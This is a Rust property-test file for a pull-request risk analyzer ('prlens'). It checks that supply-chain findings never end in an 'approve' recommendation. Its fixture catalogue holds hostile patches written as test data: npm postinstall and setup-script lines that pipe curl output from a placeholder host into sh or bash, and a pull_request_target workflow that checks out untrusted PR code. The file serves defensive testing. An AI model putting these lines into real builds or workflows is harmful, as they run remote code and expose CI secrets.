//! No bundle where a high finding ends in "approve", or a critical finding below "critical".
//!
//! What: a property test over the findings catalogue. Each case takes a
//! project bundle (tests/bundles, the playground sample), adds one or more files from a
//! catalogue of changes that the supply-chain section reports as high or critical (workflow
//! `pull_request_target` with a head checkout, npm install scripts, a remote script in a build
//! file, write permissions in a workflow), optionally turns its checks green and its review
//! approved so nothing else stands in the way, and asserts: any high finding → level ≥ medium
//! and action ≠ approve; any critical finding → level critical and action request_changes.
//! Also the readiness rule: a blocked PR never reads more than half ready.
//! Why: the noisy-OR of driver weights once left a PR with a high supply-chain finding "low"
//! and the checklist then said "approve"; findings are what the engine detected, and the
//! arithmetic must not drown them.
//!
//! Extended with issue #32's classes: the files of every `tests/bundles/signals-*-attack`
//! bundle join the catalogue of attacks (added to any project bundle, none ends in approve),
//! and the files of every `signals-*-benign` twin make a catalogue of harmless changes: added to
//! any project bundle, they raise no high or critical finding on their own paths (a changed
//! `conftest.py` is still a medium `ci_test_config`: pytest runs it) and never turn an approved
//! bundle into one that requests changes.
mod support;

use proptest::prelude::*;
use serde_json::{json, Value};

use prlens::settings::Settings;
use prlens::signal::{ReviewAction, RiskLevel};

/// (path, status, patch) of changes the engine reports as high or critical.
const CATALOGUE: &[(&str, &str, &str)] = &[
    (
        ".github/workflows/pr.yml",
        "modified",
        "@@ -1,10 +1,12 @@\n on:\n-  pull_request:\n+  pull_request_target:\n jobs:\n   build:\n     steps:\n       - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\n         with:\n+          ref: ${{ github.event.pull_request.head.sha }}\n       - run: npm test",
    ),
    (
        "package.json",
        "modified",
        "@@ -3,6 +3,7 @@\n   \"scripts\": {\n-    \"prepare\": \"husky\",\n+    \"prepare\": \"husky && node fetch.js\",\n+    \"postinstall\": \"curl https://x.example/p.sh | sh\",\n     \"test\": \"jest\"\n   },",
    ),
    (
        "packages/ui/package.json",
        "modified",
        "@@ -3,5 +3,6 @@\n   \"scripts\": {\n+    \"preinstall\": \"node ./scripts/setup.js\",\n     \"test\": \"jest\"\n   },",
    ),
    (
        ".github/workflows/a.yml",
        "modified",
        "@@ -1 +1 @@\n+permissions: write-all",
    ),
    (
        "scripts/setup.sh",
        "modified",
        "@@ -1 +1,2 @@\n+curl -fsSL https://x.example/install.sh | bash",
    ),
];

/// The files each `signals-*-<side>` bundle adds to its base (`approved-on-head-steady-author`),
/// one set per bundle (a twin may need two files, like a bundle with its source).
fn signals_files(side: &str) -> Vec<(String, Vec<Value>)> {
    let base = support::project_bundle_value("approved-on-head-steady-author");
    let base_names: Vec<&str> = base["files"]
        .as_array()
        .map(|files| {
            files
                .iter()
                .filter_map(|file| file["filename"].as_str())
                .collect()
        })
        .unwrap_or_default();
    support::project_bundle_names()
        .into_iter()
        .filter(|name| name.starts_with("signals-") && name.ends_with(&format!("-{side}")))
        .map(|name| {
            let bundle = support::project_bundle_value(&name);
            let files = bundle["files"]
                .as_array()
                .cloned()
                .unwrap_or_default()
                .into_iter()
                .filter(|file| !base_names.contains(&file["filename"].as_str().unwrap_or("")))
                .collect();
            let pair = name.trim_end_matches(side).to_string();
            (pair, files)
        })
        .collect()
}

/// `base` with `added` files put in place of any file of the same name.
fn with_files(base: &Value, added: &[Value]) -> Value {
    let mut bundle = base.clone();
    let names: Vec<&str> = added
        .iter()
        .filter_map(|file| file["filename"].as_str())
        .collect();
    let mut files: Vec<Value> = bundle["files"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .into_iter()
        .filter(|file| !names.contains(&file["filename"].as_str().unwrap_or("")))
        .collect();
    files.extend(added.iter().cloned());
    bundle["files"] = Value::Array(files);
    bundle
}

fn analyze(value: &Value) -> prlens::Signal {
    let bundle = prlens::Bundle::from_value(value).expect("a valid bundle");
    prlens::analyze(&bundle, &Settings::default(), None)
}

fn with_changes(base: &Value, picks: &[usize], clean: bool) -> Value {
    let mut bundle = base.clone();
    let files = bundle
        .get_mut("files")
        .and_then(Value::as_array_mut)
        .map(std::mem::take)
        .unwrap_or_default();
    let mut files: Vec<Value> = files
        .into_iter()
        .filter(|file| {
            let name = file.get("filename").and_then(Value::as_str).unwrap_or("");
            !CATALOGUE.iter().any(|(path, _, _)| *path == name)
        })
        .collect();
    for &pick in picks {
        let (path, status, patch) = CATALOGUE[pick % CATALOGUE.len()];
        if files
            .iter()
            .any(|file| file.get("filename").and_then(Value::as_str) == Some(path))
        {
            continue;
        }
        let added = patch.lines().filter(|line| line.starts_with('+')).count();
        let removed = patch.lines().filter(|line| line.starts_with('-')).count();
        files.push(json!({
            "filename": path, "status": status, "additions": added, "deletions": removed,
            "changes": added + removed, "patch": patch,
        }));
    }
    bundle["files"] = Value::Array(files);
    if clean {
        // Nothing else in the way: no failing check, no draft, a clean merge state.
        bundle["check_runs"] = json!({"total_count": 0, "check_runs": []});
        bundle["status"] = json!({"state": "success", "statuses": []});
        if let Some(pull) = bundle.get_mut("pull").and_then(Value::as_object_mut) {
            pull.insert("draft".into(), json!(false));
            pull.insert("mergeable_state".into(), json!("clean"));
        }
    }
    bundle
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, ..ProptestConfig::default() })]

    #[test]
    fn high_findings_never_approve_and_critical_findings_are_critical(
        base in 0usize..64,
        picks in proptest::collection::vec(0usize..CATALOGUE.len(), 1..3),
        clean in any::<bool>(),
    ) {
        let names = support::project_bundle_names();
        let name = &names[base % names.len()];
        let value = with_changes(&support::project_bundle_value(name), &picks, clean);
        let bundle = prlens::Bundle::from_value(&value).expect("a valid bundle");
        let signal = prlens::analyze(&bundle, &Settings::default(), None);
        support::assert_signal_invariants(name, &bundle, &signal);
        let severities: Vec<&str> = signal.supply_chain.findings.iter().map(|f| f.severity.key()).collect();
        prop_assert!(
            severities.iter().any(|s| matches!(*s, "high" | "critical")),
            "the catalogue change was found ({name}, {picks:?}): {severities:?}"
        );
        prop_assert!(signal.risk.level >= RiskLevel::Medium, "{name}: {:?} {}", signal.risk.level, signal.risk.formula);
        prop_assert_ne!(signal.review.action, ReviewAction::Approve, "{}", name);
        if severities.contains(&"critical") {
            prop_assert_eq!(signal.risk.level, RiskLevel::Critical, "{}", signal.risk.formula);
            prop_assert_eq!(signal.review.action, ReviewAction::RequestChanges);
        }
        prop_assert!(signal.review.readiness <= 50, "{name}: blocked but {}% ready", signal.review.readiness);
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn no_signals_attack_added_to_any_project_bundle_ends_in_approve(
        base in 0usize..64,
        pick in 0usize..64,
    ) {
        let attacks = signals_files("attack");
        let names = support::project_bundle_names();
        let name = &names[base % names.len()];
        let (pair, files) = &attacks[pick % attacks.len()];
        // The attack's own harmless twin already holds what makes it harmless (the source beside
        // a built `dist/index.js`): added to it, the attack's files are the twin again.
        prop_assume!(!name.starts_with(pair.as_str()));
        let signal = analyze(&with_files(&support::project_bundle_value(name), files));
        prop_assert_ne!(signal.review.action, ReviewAction::Approve, "{} + {}", name, files[0]["filename"]);
        prop_assert!(signal.risk.level >= RiskLevel::Medium, "{} + {}: {:?}", name, files[0]["filename"], signal.risk.level);
    }

    #[test]
    fn a_harmless_twin_added_to_any_project_bundle_raises_nothing_of_its_own(
        base in 0usize..64,
        pick in 0usize..64,
    ) {
        let twins = signals_files("benign");
        let names = support::project_bundle_names();
        let name = &names[base % names.len()];
        let (_, files) = &twins[pick % twins.len()];
        let paths: Vec<&str> = files.iter().filter_map(|file| file["filename"].as_str()).collect();
        let path = paths.join(", ");
        let before = analyze(&support::project_bundle_value(name));
        let after = analyze(&with_files(&support::project_bundle_value(name), files));
        let own = |least: prlens::signal::Severity| -> Vec<String> {
            after
                .supply_chain
                .findings
                .iter()
                // `opaque_build_change` names the build file beside the base's opaque files: the
                // base's finding (the xz pattern), not the twin's.
                .filter(|finding| finding.id != prlens::signal::FindingKind::OpaqueBuildChange)
                .filter(|finding| paths.contains(&finding.path.as_str()) && finding.severity >= least)
                .map(|finding| format!("{:?} {:?}: {}", finding.id, finding.severity, finding.detail))
                .collect()
        };
        let high = own(prlens::signal::Severity::High);
        prop_assert!(high.is_empty(), "{} + {}: {:?}", name, path, high);
        // On a PR that was fine (approve), a twin with no finding of its own above low cannot be
        // what requests changes. (On a PR already under review, any extra driver, even
        // `ci_config_change` for a harmless workflow edit, may tip the noisy-OR over a level.)
        if own(prlens::signal::Severity::Medium).is_empty() && before.review.action == ReviewAction::Approve {
            prop_assert_ne!(after.review.action, ReviewAction::RequestChanges, "{} + {}: {}", name, path, after.risk.formula);
        }
    }
}

#[test]
fn one_remote_script_on_an_otherwise_clean_docs_pr_is_medium_and_not_approve() {
    let value = with_changes(&support::project_bundle_value("docs-only"), &[4], true);
    let bundle = prlens::Bundle::from_value(&value).expect("a valid bundle");
    let signal = prlens::analyze(&bundle, &Settings::default(), None);
    assert_eq!(
        signal.risk.level,
        RiskLevel::Medium,
        "{}",
        signal.risk.formula
    );
    assert_ne!(signal.review.action, ReviewAction::Approve);
}

#[test]
fn the_reference_example_reads_about_a_fifth_ready_not_halfway() {
    // The reference product shows 22% for transformers#43774 (critical, failing checks);
    // calibrated on history (docs/calibration.md) the same shape is at least high, blocked by
    // its failing checks.
    let signal = support::project_signal("seed-like-5-files");
    assert!(
        signal.risk.level >= RiskLevel::High,
        "{}",
        signal.risk.formula
    );
    assert!(
        (18..=25).contains(&signal.review.readiness),
        "{}",
        signal.review.readiness
    );
}
